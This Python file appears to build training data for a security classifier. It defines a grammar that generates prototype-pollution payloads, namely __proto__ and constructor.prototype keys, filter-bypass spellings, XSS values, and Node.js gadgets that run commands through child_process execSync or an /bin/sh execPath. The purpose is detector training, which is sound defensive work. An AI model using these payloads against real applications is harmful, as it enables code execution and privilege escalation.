"""Prototype pollution: keys and parameter names that reach ``Object.prototype``."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.kinds import BODY, NAME, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
prop = isAdmin¦admin¦polluted¦role¦toString¦hasOwnProperty¦status¦shell¦NODE_OPTIONS¦argv0¦env¦execArgv¦outputFunctionName¦escapeFunction¦client¦sourceURL¦json spaces¦exposedHeaders¦content-type¦transport_url¦innerHTML¦src¦srcdoc¦onerror¦onload¦template¦block¦pendingContent¦compileDebug¦self¦debug¦helpers¦allowProtoMethods¦data¦url¦method¦body¦headers¦username¦privileges¦canDelete¦settings¦view options¦evilProp¦test¦foo¦x¦__proto__¦constructor¦length¦baseURL¦preventDefault¦sequence¦parameterLimit¦_body¦input¦value
val:
  3×true
  2×"‹rnd›"
  ‹n›
  "admin"
  1
  "polluted"
  null
  "data:,alert(‹d1›)//"
  "<img src onerror=alert(‹d1›)>"
  "node"
  "--require /proc/self/environ"
  "console.log(‹n›)//"
  "x;process.mainModule.require('child_process').execSync('‹ucmd0›');s"
  ["--eval=require('child_process').execSync('‹ucmd0›')"]
  {"‹az›":"‹rnd›"}
  "vim"
  "‹ucmd0›"
  510
names:
  5×__proto__[‹prop›]
  2×__proto__.‹prop›
  3×constructor[prototype][‹prop›]
  2×constructor.prototype.‹prop›
  __proto__[‹prop›][‹az›]
  ‹az›[__proto__][‹prop›]
  ‹az›.__proto__.‹prop›
  ‹az›[constructor][prototype][‹prop›]
  __pro__proto__to__[‹prop›]
  constconstructorructor[protoprototypetype][‹prop›]
  __proto__[__proto__][‹prop›]
  __proto__%5B‹prop›%5D
  __proto__
  ‹az›[][__proto__][‹prop›]
  ["__proto__"]["‹prop›"]
  __proto__.__proto__.‹prop›
  0[__proto__][‹prop›]
  __defineGetter__[‹prop›]
  __lookupSetter__
objects:
  5×{"__proto__":{"‹prop›":‹val›}}
  3×{"constructor":{"prototype":{"‹prop›":‹val›}}}
  2×{"‹az›":‹rv›,"__proto__":{"‹prop›":‹val›}}
  2×{"‹az›":{"__proto__":{"‹prop›":‹val›}}}
  {"__proto__":{"‹prop›":‹val›,"‹prop›":‹val›}}
  {"__proto__":{"‹prop›":‹val›},"‹az›":‹rv›,"‹az›":‹rv›}
  {"‹az›":{"constructor":{"prototype":{"‹prop›":‹val›}}}}
  [{"op":"‹add¦replace›","path":"/__proto__/‹prop›","value":‹val›}]
  {"__proto__.‹prop›":‹val›}
  {"constructor.prototype.‹prop›":‹val›}
  {"__proto__":{"__proto__":{"‹prop›":‹val›}}}
  {"\u005f_proto__":{"‹prop›":‹val›}}
  {"__proto__":["‹rnd›"]}
  {"__proto__":null}
  {"path":"__proto__.‹prop›","value":‹val›}
  {"key":"__proto__","value":{"‹prop›":‹val›}}
  {"shell":"node","NODE_OPTIONS":"--inspect=‹host›","__proto__":{"argv0":"‹az›"}}
  {"__proto__": {"execPath":"/bin/sh","execArgv":["-c","‹ucmd0›"]}}
rv:
  "‹word›"
  ‹n›
  "‹rnd›"
values:
  2×__proto__
  __proto__[‹prop›]=‹rnd›
  __proto__.‹prop›
  constructor.prototype
  constructor.prototype.‹prop›
  constructor[prototype][‹prop›]=‹rnd›
  ?__proto__[‹prop›]=‹rnd›
  #__proto__[‹prop›]=alert(‹d1›)
  ‹az›.__proto__
  Object.prototype.‹prop›=‹rnd›
  ().__proto__.‹prop›=‹n›
  Object.assign(Object.prototype,{‹az›:‹n›})
  {"__proto__":{"‹prop›":‹val›}}
  __proto__[‹prop›]=<img/src/onerror=alert(‹d1›)>
  a.constructor.prototype.‹prop›
  ["__proto__","‹prop›"]
""",
    PARTS,
)
_C = Category.PROTOTYPE_POLLUTION
KINDS = (
    AttackKind("prototype.name", _C, _G.maker("names"), 2.0, (NAME,)),
    AttackKind("prototype.object", _C, _G.maker("objects"), 3.0, (BODY, VALUE)),
    AttackKind("prototype.value", _C, _G.maker("values"), 1.0, (VALUE,)),
)
